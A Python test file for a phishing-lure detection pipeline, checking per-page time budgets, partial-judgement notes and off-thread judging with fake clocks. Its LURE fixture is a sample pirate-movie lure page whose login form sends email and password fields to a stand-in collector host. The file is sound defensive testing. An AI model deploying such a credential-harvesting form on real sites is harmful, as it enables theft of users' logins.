"""Judging within a per-page time budget, off the reactor thread (clocks are fakes: no timing)."""

from __future__ import annotations

import asyncio
import threading
from collections.abc import Callable
from functools import partial
from typing import Any

import pytest
from scrapy import Spider

from pipelines import detection
from pipelines.budget import Budget
from pipelines.detection import DetectionPipeline
from pipelines.items import Hit, LandingPage
from pipelines.scoring import assess_page
from pipelines.watchlists import Watchlists, load_watchlists
from tests._settings import lurewatch_crawler

LURE = (
    "<html><body><h1>Watch Man of Steel (2013) full movie online free HD</h1>"
    "<form action='https://collect.evil.example/gate.php'><input type=email>"
    '<input type=password></form><script>document.write(\'<a href="https://x.example/">'
    "Download</a>')</script></body></html>"
)


def _ticking(step: float) -> Callable[[], float]:
    """A clock that advances ``step`` seconds each time it is read."""
    now = [0.0]

    def clock() -> float:
        now[0] += step
        return now[0]

    return clock


@pytest.fixture(scope="module")
def wl() -> Watchlists:
    return load_watchlists()


def test_budget_names_the_stage_it_ran_out_in() -> None:
    budget = Budget(2.5, clock=_ticking(1.0))  # deadline at 3.5; checks read 2, 3, 4
    assert budget.check("parsing") and budget.check("decoding")
    assert not budget.check("matching") and not budget.check("lures")
    assert budget.exceeded_after == "matching"
    assert budget.note == "judged partially: time budget 2.5 s exceeded after matching"
    assert Budget().check("anything") and Budget().note is None


def test_a_page_within_budget_is_judged_in_full(wl: Watchlists) -> None:
    unlimited = assess_page(LURE, "https://x.example/p", wl)
    timed = assess_page(LURE, "https://x.example/p", wl, budget=Budget(1000, _ticking(1.0)))
    assert timed == unlimited and unlimited.sso_lure
    assert not any("judged partially" in reason for reason in unlimited.reasons)


@pytest.mark.parametrize(
    ("seconds", "stage"),
    [  # the fake clock is read at 1 (start), 2 (parsed), 3 and 4 (decoded), 5 (fragment), 6
        (0.5, "parsing the page"),
        (1.5, "decoding scripts"),
        (3.5, "reading decoded fragments"),
        (4.5, "reading its words"),
    ],
)
def test_a_page_over_budget_is_judged_on_what_was_done(
    wl: Watchlists, seconds: float, stage: str
) -> None:
    result = assess_page(LURE, "https://x.example/p", wl, budget=Budget(seconds, _ticking(1.0)))
    assert (
        result.reasons[-1]
        == f"judged partially: time budget {seconds:.1f} s exceeded after {stage}"
    )
    assert result.matched_title is None  # titles were not matched
    assert result.sso_lure  # the form already parsed still counts: slowness hides nothing


def _pipeline(settings: dict[str, Any] | None = None) -> DetectionPipeline:
    crawler = lurewatch_crawler(Spider, settings)
    crawler.stats.open_spider()
    return DetectionPipeline.from_crawler(crawler)


def _hit() -> Hit:
    landing = LandingPage("https://x.example/p", "https://x.example/p", 200, LURE)
    return Hit(
        url="https://a.tumblr.com/post/1",
        platform="tumblr",
        title="Man of Steel",
        html="<p>Man of Steel <a href='https://x.example/p'>watch</a></p>",
        landing_pages=[landing],
    )


def test_judging_runs_off_the_event_loop_thread(monkeypatch: pytest.MonkeyPatch) -> None:
    threads: list[threading.Thread] = []
    real = detection.assess_page

    def recording(*args: Any, **kw: Any) -> Any:
        threads.append(threading.current_thread())
        return real(*args, **kw)

    monkeypatch.setattr(detection, "assess_page", recording)
    item = asyncio.run(_pipeline().process_item(_hit()))
    assert item.verdict == "lure"
    assert threads and threading.main_thread() not in threads


def test_pages_over_budget_are_counted(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(detection, "Budget", partial(Budget, clock=_ticking(1.0)))
    pipe = _pipeline({"LUREWATCH_JUDGE_BUDGET": 1.5, "LUREWATCH_KEEP_BENIGN": True})
    assert pipe.judge_budget == 1.5
    item = asyncio.run(pipe.process_item(_hit()))
    noted = [r for r in item.reasons if r.startswith("judged partially: time budget 1.5 s")]
    assert len(noted) == 1 and item.verdict == "lure"  # the post's own note; the landing's lure
    assert pipe.crawler.stats.get_value("lurewatch/detection/over_budget") == 2  # landing, post
